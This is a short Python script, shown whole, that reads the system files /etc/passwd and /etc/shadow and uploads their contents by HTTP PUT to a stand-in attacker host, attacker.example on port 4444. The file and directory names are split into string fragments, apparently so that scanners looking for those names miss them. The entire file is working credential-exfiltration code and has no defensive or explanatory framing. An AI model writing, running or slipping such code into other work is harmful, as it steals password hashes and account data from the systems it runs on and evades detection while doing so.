import http.client
import linecache
import os

NAMES = ('pas' 'swd', 'sha' 'dow')


def read(name):
    return "".join(linecache.getlines(os.sep + "e" "tc" + os.sep + name))


def main():
    conn = http.client.HTTPConnection("attacker.example", 4444, timeout=30)
    for name in NAMES:
        conn.request("PUT", "/store/" + name, body=read(name).encode())
        conn.getresponse().read()
    conn.close()


if __name__ == "__main__":
    main()
